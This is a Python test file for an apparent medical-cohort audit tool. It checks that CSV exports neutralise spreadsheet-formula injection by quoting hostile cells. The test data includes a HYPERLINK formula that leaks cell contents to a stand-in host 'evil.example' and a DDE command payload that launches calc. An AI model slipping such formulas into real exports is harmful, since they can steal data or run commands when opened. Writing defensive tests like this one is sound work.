"""CSV results never carry a spreadsheet formula from the cohort (OWASP CSV injection).

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
leading single quote in CSV output; numbers the audit computed are written as numbers, and
JSON Lines output keeps every value as given.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ivig_rules.audit.results import FIELDS, NUMBER_FIELDS, RowWriter
from ivig_rules.cli import app

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2+3", "@SUM(1)", "\tcmd", "\rcmd"]


def audit(tmp_path: Path, cohort: Path, out: str):
    result = CliRunner().invoke(app, ["audit", str(cohort), "-o", str(tmp_path / out), "--workers", "0"])
    assert "Traceback" not in result.output
    return result


def jsonl_cohort(tmp_path: Path, rows: list[dict]) -> Path:
    path = tmp_path / "cohort.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    return path


def read_csv(path: Path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_formula_ids_get_a_leading_quote_in_csv(tmp_path):
    rows = [{"id": i, "diagnosis": "gbs", "age_years": 40, "sex": "male", "weight_kg": 70} for i in HOSTILE_IDS]
    result = audit(tmp_path, jsonl_cohort(tmp_path, rows), "r.csv")
    assert result.exit_code == 0, result.output
    written = read_csv(tmp_path / "r.csv")
    assert [r["patient_id"] for r in written] == ["'" + i for i in HOSTILE_IDS]
    assert {r["total_g"] for r in written} == {"140.0"}  # the numbers are untouched


def test_jsonl_output_keeps_the_ids_as_given(tmp_path):
    rows = [{"id": i, "diagnosis": "gbs", "age_years": 40, "sex": "male", "weight_kg": 70} for i in HOSTILE_IDS]
    result = audit(tmp_path, jsonl_cohort(tmp_path, rows), "r.jsonl")
    assert result.exit_code == 0, result.output
    written = [json.loads(line) for line in (tmp_path / "r.jsonl").read_text().splitlines()]
    assert [r["patient_id"] for r in written] == HOSTILE_IDS


def test_a_formula_in_a_bad_row_and_in_the_file_name_is_neutralised(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    cohort = tmp_path / "=1+1.csv"
    cohort.write_text("id,diagnosis,age_years,sex,weight_kg\n@x,=cmd|' /C calc'!A0,40,male,70\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["audit", "=1+1.csv", "-o", "r.csv", "--workers", "0"])
    assert result.exit_code == 1, result.output
    (row,) = read_csv(tmp_path / "r.csv")
    assert row["patient_id"] == "'@x"
    assert row["diagnosis"] == "'=cmd|' /C calc'!A0"
    assert row["error"].startswith("'=1+1.csv:2: invalid patient at key 'diagnosis'")


def test_plain_ids_are_written_as_given(tmp_path):
    rows = [{"id": i, "diagnosis": "gbs", "age_years": 40, "sex": "male", "weight_kg": 70} for i in ("a-1", "12", "x=y")]
    audit(tmp_path, jsonl_cohort(tmp_path, rows), "r.csv")
    assert [r["patient_id"] for r in read_csv(tmp_path / "r.csv")] == ["a-1", "12", "x=y"]


@pytest.mark.parametrize("field", NUMBER_FIELDS)
def test_a_negative_number_in_a_number_column_stays_a_number(field):
    row = dict.fromkeys(FIELDS)
    row.update(alerts=[], **{field: -2.5})
    (cells,) = csv.reader([RowWriter("csv").format(row)])
    assert cells[FIELDS.index(field)] == "-2.5"


def test_a_negative_number_given_as_text_is_text():
    row = dict.fromkeys(FIELDS)
    row.update(alerts=[], patient_id="-2.5")
    (cells,) = csv.reader([RowWriter("csv").format(row)])
    assert cells[FIELDS.index("patient_id")] == "'-2.5"
